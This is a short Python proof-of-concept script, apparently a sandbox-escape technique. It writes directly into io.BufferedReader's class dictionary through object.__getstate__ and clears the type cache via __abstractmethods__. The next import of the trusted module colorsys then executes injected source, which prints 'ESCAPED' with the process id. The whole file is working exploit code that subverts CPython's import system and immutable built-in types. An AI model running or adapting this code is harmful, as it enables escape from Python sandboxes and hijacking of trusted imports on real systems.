# technique: object.__getstate__(cls) is the real __dict__ of a class; BufferedReader.read then hands importlib our source for a trusted module
# goal: import
# source: own analysis: PyObject_GenericGetDict of a type is tp_dict
import io

SOURCE = b'''
import posix
print('ESCAPED pid=%d' % posix.getpid())
'''
object.__getstate__(io.BufferedReader)['read'] = lambda *ignored: SOURCE
# It does not ask whether the class is immutable, and empties the cache.
type.__dict__['__abstractmethods__'].__set__(io.BufferedReader, ())
import colorsys
